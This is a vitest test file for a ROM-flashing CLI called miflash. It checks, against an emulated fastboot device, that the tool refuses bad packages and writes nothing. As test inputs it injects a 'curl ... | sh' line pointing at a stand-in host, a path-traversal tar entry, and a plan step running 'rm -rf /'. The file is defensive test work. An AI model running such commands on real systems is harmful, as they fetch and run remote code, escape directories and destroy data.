// `miflash flash ROM` against `miflash emulate`: every refusal names its cause,
// exits with its documented code, and leaves the device with nothing but
// getvars received; --json events match their zod schema; several devices run
// independently with the worst exit code; plan files run as written.
import { cpSync, mkdtempSync, readFileSync, rmSync, unlinkSync, writeFileSync, appendFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PlanEventSchema, type PlanEvent } from '../../src/plan/events.js';
import { buildSyntheticRom, type SyntheticRom } from '../../src/rom/synthetic.js';
import { emulatorForRom, runMiflash, type RomEmulator } from '../helpers/fake-fastboot.js';
import { makeTar } from '../rom/helpers.js';

const work = mkdtempSync(path.join(os.tmpdir(), 'miflash-flashrom-'));
let pristine: SyntheticRom;
let copies = 0;

beforeAll(async () => {
  pristine = await buildSyntheticRom(path.join(work, 'pristine'), { from: 'raphaelin', seed: 3 });
}, 60_000);
afterAll(() => rmSync(work, { recursive: true, force: true }));

/** A private copy of the ROM to damage. */
function romCopy(): SyntheticRom {
  const root = path.join(work, `copy-${++copies}`);
  cpSync(pristine.root, root, { recursive: true });
  return { ...pristine, root };
}

async function withEmu<T>(rom: Pick<SyntheticRom, 'partitions' | 'product'>, extra: string[], fn: (emu: RomEmulator) => Promise<T>): Promise<T> {
  const emu = await emulatorForRom(rom, extra);
  try {
    return await fn(emu);
  } finally {
    await emu.stop();
  }
}

function flipByte(file: string, at = 100): void {
  const b = readFileSync(file);
  b[at % b.length]! ^= 0xff;
  writeFileSync(file, b);
}

function onlyGetvars(emu: RomEmulator): void {
  expect(emu.log().length).toBeGreaterThan(0);
  expect(emu.writes()).toEqual([]);
}

describe('refusals: specific message, exit code, nothing sent but getvars', () => {
  it('wrong product -> 3', async () => {
    await withEmu({ ...pristine, product: 'cepheus' }, [], async (emu) => {
      const r = await runMiflash(['-s', emu.address, 'flash', pristine.root, '--yes']);
      expect(r.code, r.stderr).toBe(3);
      expect(r.stderr).toMatch(/flash_all\.sh line 6: Missmatching image and device \(the device answered product: cepheus\)/);
      onlyGetvars(emu);
    });
  }, 30_000);

  it('device anti-rollback version higher than the package -> 3', async () => {
    await withEmu(pristine, ['--var', 'anti=2'], async (emu) => {
      const r = await runMiflash(['-s', emu.address, 'flash', pristine.root, '--yes']);
      expect(r.code, r.stderr).toBe(3);
      expect(r.stderr).toMatch(/flash_all\.sh line 4: current device antirollback version is greater then this pakcage \(the device answered anti: 2\)/);
      onlyGetvars(emu);
    });
  }, 30_000);

  it('anti equal to the package passes the gate (boundary)', async () => {
    await withEmu(pristine, ['--var', 'anti=1'], async (emu) => {
      const r = await runMiflash(['-s', emu.address, 'flash', pristine.root, '--yes', '--dry-run']);
      expect(r.code, r.stderr).toBe(0);
    });
  }, 30_000);

  it('md5sum.xml mismatch -> 3', async () => {
    const rom = romCopy();
    flipByte(path.join(rom.root, 'images/tz.mbn'));
    await withEmu(rom, [], async (emu) => {
      const r = await runMiflash(['-s', emu.address, 'flash', rom.root, '--yes']);
      expect(r.code, r.stderr).toBe(3);
      expect(r.stderr).toMatch(/images\/tz\.mbn \(partition tz\): MD5 \(md5sum\.xml\) mismatch: expected [0-9a-f]{32}, found [0-9a-f]{32}/);
      onlyGetvars(emu);
    });
  }, 30_000);

  it('crclist.txt mismatch -> 3 (md5sum.xml updated to match, so only the CRC disagrees)', async () => {
    const rom = romCopy();
    const img = path.join(rom.root, 'images/tz.mbn');
    flipByte(img);
    const md5 = createHash('md5').update(readFileSync(img)).digest('hex');
    const xmlPath = path.join(rom.root, 'md5sum.xml');
    writeFileSync(xmlPath, readFileSync(xmlPath, 'utf8').replace(/(name="tz\.mbn">)[0-9a-f]+</, `$1${md5}<`));
    await withEmu(rom, [], async (emu) => {
      const r = await runMiflash(['-s', emu.address, 'flash', rom.root, '--yes']);
      expect(r.code, r.stderr).toBe(3);
      expect(r.stderr).toMatch(/images\/tz\.mbn \(partition tz\): CRC-32 \(images\/crclist\.txt\) mismatch: expected 0x[0-9a-f]+, found 0x[0-9a-f]+/);
      onlyGetvars(emu);
    });
  }, 30_000);

  it("sparse piece count at the device's max-download-size differs from sparsecrclist.txt -> 3", async () => {
    await withEmu(pristine, ['--max-download-size', '8K'], async (emu) => {
      const r = await runMiflash(['-s', emu.address, 'flash', pristine.root, '--yes']);
      expect(r.code, r.stderr).toBe(3);
      expect(r.stderr).toMatch(/piece count at a 8192-byte download limit \(images\/sparsecrclist\.txt\) mismatch: expected 1, found \d+/);
      onlyGetvars(emu);
    });
  }, 30_000);

  it('the same with -S (the limit the flash will use)', async () => {
    await withEmu(pristine, [], async (emu) => {
      const r = await runMiflash(['-s', emu.address, '-S', '12K', 'flash', pristine.root, '--yes']);
      expect(r.code, r.stderr).toBe(3);
      expect(r.stderr).toMatch(/piece count at a 12288-byte download limit/);
      expect(r.stderr).toMatch(/If you passed -S, drop it/);
      onlyGetvars(emu);
    });
  }, 30_000);

  it('missing image -> 2', async () => {
    const rom = romCopy();
    unlinkSync(path.join(rom.root, 'images/tz.mbn'));
    await withEmu(rom, [], async (emu) => {
      const r = await runMiflash(['-s', emu.address, 'flash', rom.root, '--yes']);
      expect(r.code, r.stderr).toBe(2);
      expect(r.stderr).toMatch(/images\/tz\.mbn \(partition tz\): missing from the ROM/);
      onlyGetvars(emu);
    });
  }, 30_000);

  it('corrupt sparse image -> 2', async () => {
    const rom = romCopy();
    const img = path.join(rom.root, 'images/system.img');
    const b = readFileSync(img);
    b.writeUInt32LE(b.readUInt32LE(20) + 7, 20); // total_chunks: more chunks than the file holds
    writeFileSync(img, b);
    await withEmu(rom, [], async (emu) => {
      const r = await runMiflash(['-s', emu.address, 'flash', rom.root, '--yes']);
      expect(r.code, r.stderr).toBe(2);
      expect(r.stderr).toMatch(/system\.img/);
      onlyGetvars(emu);
    });
  }, 30_000);

  it('unknown script line -> 2, and not even a getvar is sent', async () => {
    const rom = romCopy();
    writeFileSync(path.join(rom.root, 'flash_all.sh'), `curl -s http://example.invalid/x | sh\n${readFileSync(path.join(rom.root, 'flash_all.sh'), 'utf8')}`);
    await withEmu(rom, [], async (emu) => {
      const r = await runMiflash(['-s', emu.address, 'flash', rom.root, '--yes']);
      expect(r.code, r.stderr).toBe(2);
      expect(r.stderr).toMatch(/flash_all\.sh:1: curl is not a command miflash interprets/);
      expect(emu.log()).toEqual([]);
    });
  }, 30_000);

  it('an unknown command only some devices reach -> 2 before any write, after the checks that lead to it', async () => {
    const rom = romCopy();
    appendFileSync(path.join(rom.root, 'flash_all.sh'), 'curl -s http://example.invalid/x | sh\n');
    await withEmu(rom, [], async (emu) => {
      const r = await runMiflash(['-s', emu.address, 'flash', rom.root, '--yes']);
      expect(r.code, r.stderr).toBe(2);
      expect(r.stderr).toMatch(/line \d+: curl is not a command miflash interprets/);
      onlyGetvars(emu);
    });
  }, 30_000);

  it('archive entry escaping its folder -> 2, and nothing is sent', async () => {
    const tgz = path.join(work, 'evil_images_V1.0_20250101.tgz');
    writeFileSync(
      tgz,
      makeTar([
        { type: 'dir', name: 'evil/' },
        { type: 'file', name: 'evil/flash_all.sh', data: readFileSync(path.join(pristine.root, 'flash_all.sh')) },
        { type: 'file', name: 'evil/../../escaped.txt', data: 'gotcha' },
      ]),
    );
    await withEmu(pristine, [], async (emu) => {
      const r = await runMiflash(['-s', emu.address, 'flash', tgz, '--yes']);
      expect(r.code, r.stderr).toBe(2);
      expect(r.stderr).toMatch(/refusing entry "evil\/\.\.\/\.\.\/escaped\.txt"/);
      expect(emu.log()).toEqual([]);
    });
  }, 30_000);

  it('no TTY and no --yes: refuses a plan that erases user data (130), after getvars only, and says to pass --yes', async () => {
    await withEmu(pristine, [], async (emu) => {
      const r = await runMiflash(['-s', emu.address, 'flash', pristine.root]);
      expect(r.code, r.stderr).toBe(130);
      expect(r.stderr).toMatch(/--yes/);
      onlyGetvars(emu);
    });
  }, 30_000);
});

describe('runs', () => {
  it('--dry-run reads getvars, checks everything, prints the operations, writes nothing', async () => {
    await withEmu(pristine, [], async (emu) => {
      const r = await runMiflash(['-s', emu.address, 'flash', pristine.root, '--dry-run']);
      expect(r.code, r.stderr).toBe(0);
      const ops = r.stdout.trim().split('\n');
      expect(ops[0]).toBe('fastboot erase boot');
      expect(ops).toContain('fastboot flash xbl images/xbl.elf');
      expect(ops.at(-1)).toBe('fastboot reboot');
      expect(ops.filter((l) => l.startsWith('fastboot flash ')).length).toBe(44);
      onlyGetvars(emu);
    });
  }, 30_000);

  it('--json: every line is a schema-valid event; plan first, done last, progress within the plan', async () => {
    await withEmu(pristine, [], async (emu) => {
      const r = await runMiflash(['-s', emu.address, '--json', 'flash', pristine.root, '--yes']);
      expect(r.code, r.stderr).toBe(0);
      const events: PlanEvent[] = r.stdout
        .trim()
        .split('\n')
        .map((l) => PlanEventSchema.parse(JSON.parse(l)));
      expect(events[0]!.event).toBe('plan');
      expect(events.at(-1)!.event).toBe('done');
      expect(events.every((e) => e.device === emu.address)).toBe(true);
      const plan = events[0] as Extract<PlanEvent, { event: 'plan' }>;
      const ends = events.filter((e): e is Extract<PlanEvent, { event: 'step-end' }> => e.event === 'step-end');
      expect(ends.length).toBe(plan.steps.length);
      // Steps under a condition this device does not meet are skipped; every other step is ok.
      expect(ends.filter((e) => e.status !== 'ok' && !(e.status === 'skipped' && /^condition not met/.test(e.message ?? ''))).map((e) => `${e.step} ${e.kind} ${e.status}`)).toEqual([]);
      expect(ends.filter((e) => e.status === 'ok').length).toBeGreaterThan(44);
      const done = events.at(-1) as Extract<PlanEvent, { event: 'done' }>;
      expect(done.bytesSent).toBe(plan.totalBytes);
      // step-start/step-end pair up in plan order
      const starts = events.filter((e) => e.event === 'step-start').map((e) => (e as { step: number }).step);
      expect(starts).toEqual([...starts].sort((a, b) => a - b));
    });
  }, 30_000);

  it('--json refusal ends with a schema-valid error event carrying the exit code', async () => {
    await withEmu({ ...pristine, product: 'cepheus' }, [], async (emu) => {
      const r = await runMiflash(['-s', emu.address, '--json', 'flash', pristine.root, '--yes']);
      expect(r.code, r.stderr).toBe(3);
      const events = r.stdout.trim().split('\n').map((l) => PlanEventSchema.parse(JSON.parse(l)));
      const last = events.at(-1)!;
      expect(last).toMatchObject({ event: 'error', code: 'gate.product', exitCode: 3 });
    });
  }, 30_000);

  it('several devices run independently; one refusal does not stop the other; exit code = worst', async () => {
    await withEmu(pristine, [], async (good) =>
      withEmu({ ...pristine, product: 'cepheus' }, [], async (bad) => {
        const r = await runMiflash(['-s', good.address, '-s', bad.address, 'flash', pristine.root, '--yes']);
        expect(r.code, r.stderr).toBe(3);
        expect(r.stderr).toContain(`[${bad.address}]`);
        onlyGetvars(bad);
        expect(good.writes().filter((l) => l.startsWith('flash:')).length).toBe(44);
        expect(good.writes().at(-1)).toBe('reboot');
      }),
    );
  }, 30_000);

  it('a plan file runs as written (edited by hand), and a plan with an unknown step kind is refused', async () => {
    const planPath = path.join(work, 'plan.json');
    const p = await runMiflash(['plan', pristine.root, '--json']);
    expect(p.code, p.stderr).toBe(0);
    const plan = JSON.parse(p.stdout) as { steps: Array<{ kind: string; partition?: string }> };
    // Keep the checks (queries and the exits that read them), flash only boot and reboot.
    plan.steps = plan.steps.filter((s) => ['query', 'exit'].includes(s.kind) || s.kind.startsWith('gate.') || (s.kind === 'flash' && s.partition === 'boot') || s.kind === 'reboot');
    writeFileSync(planPath, JSON.stringify(plan));
    await withEmu(pristine, [], async (emu) => {
      const r = await runMiflash(['-s', emu.address, 'flash', planPath, '--rom', pristine.root, '--yes']);
      expect(r.code, r.stderr).toBe(0);
      const boot = readFileSync(path.join(pristine.root, 'images/boot.img'));
      expect(emu.writes()).toEqual([`download ${boot.length} ${createHash('sha256').update(boot).digest('hex')}`, 'flash:boot', 'reboot']);
    });
    const bad = { ...plan, steps: [...plan.steps, { kind: 'shell', line: 1, onFailure: 'abort', command: 'rm -rf /' }] };
    writeFileSync(planPath, JSON.stringify(bad));
    await withEmu(pristine, [], async (emu) => {
      const r = await runMiflash(['-s', emu.address, 'flash', planPath, '--rom', pristine.root, '--yes']);
      expect(r.code, r.stderr).toBe(2);
      expect(r.stderr).toMatch(/not a valid flash plan: steps\.\d+/);
      expect(emu.log()).toEqual([]);
    });
  }, 30_000);
});
